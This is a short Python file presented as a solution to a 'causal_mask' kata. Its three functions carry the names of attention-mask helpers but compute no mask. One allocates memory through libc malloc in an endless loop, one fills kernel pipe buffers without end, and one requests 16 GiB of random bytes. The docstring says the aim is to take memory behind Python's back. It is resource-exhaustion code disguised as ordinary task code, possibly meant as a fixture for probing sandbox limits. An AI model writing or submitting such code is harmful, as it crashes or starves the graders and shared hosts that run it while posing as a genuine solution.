"""Takes memory behind Python's back, by malloc, and in the pipes and sockets of the kernel."""
# kata: causal_mask
# share: 0

import ctypes
import os

libc = ctypes.CDLL(None)
libc.malloc.restype = ctypes.c_void_p


def causal_mask(n_queries, n_keys=None):
    while place := libc.malloc(8 << 20):
        ctypes.memset(place, 1, 8 << 20)
    raise MemoryError


def padded_causal_mask(n_queries, key_is_real):
    while True:
        _, end = os.pipe()
        os.set_blocking(end, False)
        os.write(end, bytes(1 << 20))


def additive_mask(mask, dtype="float32"):
    return os.urandom(1 << 34)
